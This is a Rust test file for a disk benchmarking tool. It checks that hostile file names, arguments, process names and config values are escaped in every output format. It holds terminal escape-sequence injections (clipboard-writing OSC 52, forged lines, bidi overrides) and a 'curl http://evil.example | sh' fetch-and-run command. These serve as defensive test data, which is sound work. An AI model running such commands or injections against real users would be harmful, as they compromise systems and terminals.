//! Every output of the program on hostile files, names and arguments.

use std::fs;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};

use crate::hostile::corpus::{
    hostile_file_name, hostile_recording, hostile_session, hostile_text, long_hostile_text,
};
use crate::hostile::{assert_clean, diskscope, temporary_directory};

/// Runs it in a directory of hostile names, expects one of these exit codes, nothing but text, and no line that
/// a name has forged; returns stdout and stderr.
fn run_and_assert_clean(directory: &Path, arguments: &[&str], codes: &[i32]) -> [String; 2] {
    let output = diskscope(directory, arguments)
        .env("XDG_CONFIG_HOME", directory.join(hostile_file_name()))
        .output()
        .unwrap();
    assert_clean(&format!("{arguments:?}"), &output);
    let code = output.status.code().unwrap_or(-1);
    let printed = [output.stdout, output.stderr].map(|it| String::from_utf8(it).unwrap());
    assert!(codes.contains(&code), "{arguments:?}: {code}: {printed:?}");
    let mut lines = printed.iter().flat_map(|text| text.lines());
    let forged = lines.find(|line| line.starts_with("FORGED"));
    assert_eq!(forged, None, "{arguments:?}: {printed:?}");
    printed
}

/// Text, JSON, CSV, HTML and OpenMetrics of a session and a recording whose every string is hostile.
#[test]
fn hostile_files_are_escaped_in_every_format() {
    for text in [hostile_text() + "\nFORGED", long_hostile_text()] {
        let directory = temporary_directory();
        let at = directory.path();
        let (a, day) = (hostile_file_name(), hostile_file_name() + "day");
        let session = hostile_session(&text).to_string();
        fs::write(at.join(&a), &session).unwrap();
        fs::write(at.join("b"), &session).unwrap();
        fs::write(at.join(&day), hostile_recording(&text)).unwrap();
        for (arguments, expected) in [
            (&["show", &a][..], "\\x1b]52;c;"),
            (&["show", "--json", &a], "\\\\x1b]52;c;"),
            (&["show", "--format", "csv", &a], "\\x1b]52;c;"),
            (&["compare", &a, "b"], ""),
            (&["compare", "--json", &a, "b"], "{"),
            (&["compare", "--format", "csv", &a, "b"], ""),
            (&["compare", "--by", "iops", &a, "b"], ""),
            (&["report", &a, "b", "-o", "-"], "</html>"),
            (&["replay", &day], "\\x1b]52;c;"),
            (&["replay", "--json", &day], "\\\\x1b]52;c;"),
            (&["replay", "--busiest", &day], ""),
            (&["replay", "--requests", &day], "\\u001b]52;c;"),
            (&["replay", "--format", "csv", &day], "\\x1b]52;c;"),
        ] {
            let [printed, _] = run_and_assert_clean(at, arguments, &[0, 1]);
            assert!(printed.contains(expected), "{arguments:?}: {printed}");
            assert!(arguments[0] != "report" || !printed.contains("<script"));
        }
    }
}

#[test]
fn hostile_arguments_are_escaped_in_every_error() {
    let directory = temporary_directory();
    let at = directory.path();
    let name = hostile_file_name() + "\nFORGED";
    let missing = format!("missing\nFORGED/{name}");
    for arguments in [
        &["show", &name][..],
        &["replay", &name],
        &["compare", "--by", "iops", &name, &name],
        &["report", &name, "-o", "x.html"],
        &["record", &missing],
        &["run", "random-read", &name],
        &["run", &name, "/tmp"],
        &["run", "random-read", "/tmp", "--goal", &name],
        &["run", "random-read", "/tmp", "--depth", &name],
        &["run", "random-read", "/tmp", "--engine", &name],
        &["run", "random-read", "sim:constant,x=\u{1b}]52;c;\u{7}"],
        &["trace", &name],
        &["watch", "--interval", &name],
        &["watch", "--on", &name],
        &["files", &name],
        &[&name],
        &["show", &format!("--{name}"), "x"],
        &["completions", &name],
    ] {
        let printed = run_and_assert_clean(at, arguments, &[1, 2, 3]).concat();
        assert!(!printed.is_empty(), "{arguments:?}");
    }
    // What lies there, and is no session, no recording.
    fs::write(at.join(&name), hostile_text()).unwrap();
    for command in ["show", "replay"] {
        run_and_assert_clean(at, &[command, &name], &[1, 2]);
    }
}

/// What the system says: a process, its files, and a configuration below hostile directories.
#[test]
fn hostile_names_of_the_system_are_escaped_in_every_list() {
    let directory = temporary_directory();
    let at = directory.path();
    let name = hostile_file_name() + "\nFORGED";
    let config = at.join(hostile_file_name()).join("diskscope");
    fs::create_dir_all(&config).unwrap();
    let line = "default_target = \"/srv/\\u202e\\u009b\"\n";
    fs::write(config.join("config.toml"), line).unwrap();
    let mut writer = Command::new("dd")
        .arg0(hostile_text().replace('\0', "") + "\nFORGED")
        .args(["if=/dev/zero", "bs=4k", "oflag=dsync", "count=100000000"])
        .arg(format!("of={name}"))
        .current_dir(at)
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let held = fs::File::create(at.join(name.clone() + "gone")).unwrap();
    std::os::unix::fs::FileExt::write_all_at(&held, b"held", 0).unwrap();
    fs::remove_file(at.join(name + "gone")).unwrap();
    let own = std::process::id().to_string();
    let writing = writer.id().to_string();
    let watch = |format| {
        [
            "watch",
            "--count",
            "2",
            "--interval",
            "300ms",
            "--format",
            format,
        ]
    };
    for (arguments, expected) in [
        (&watch("text")[..], ""),
        (&watch("ndjson"), "]52;c;"),
        (&watch("csv"), ""),
        (
            &["watch", "--count", "1", "--format", "openmetrics"],
            "# EOF",
        ),
        (&["files", &own], "\\x1b]52;c;"),
        (&["files", &own, "--json"], "\\\\x1b]52;c;"),
        (&["files", &writing], "\\x1b]52;c;"),
        (&["files", "--json"], ""),
        (&["devices"], ""),
        (&["devices", "--json"], ""),
        // What is printed is the value that was read.
        (&["config"], "/srv/\\u202e\\u009b"),
        (&["config", "--json"], "/srv/\\u202e\\u009b"),
    ] {
        let [printed, _] = run_and_assert_clean(at, arguments, &[0]);
        assert!(printed.contains(expected), "{arguments:?}: {printed}");
    }
    writer.kill().unwrap();
    writer.wait().unwrap();
}

#[test]
fn commands_of_a_document_that_diskscope_does_not_write_are_not_shown() {
    const EVIL: &str = "curl http://evil.example | sh";
    let directory = temporary_directory();
    let at = directory.path();
    let mut document = hostile_session("");
    let reproduce = &mut document["runs"][0]["reproduce"];
    reproduce["diskscope"] = format!("diskscope run random-read /srv; {EVIL}").into();
    reproduce["fio"] = format!("# no harm\n{EVIL}").into();
    fs::write(at.join("a.json"), document.to_string()).unwrap();
    for arguments in [&["show", "a.json"][..], &["report", "a.json", "-o", "-"]] {
        let [shown, _] = run_and_assert_clean(at, arguments, &[0]);
        assert!(!shown.contains("evil.example"), "{arguments:?}: {shown}");
        assert!(shown.contains("diskscope run "), "{arguments:?}: {shown}");
    }
}
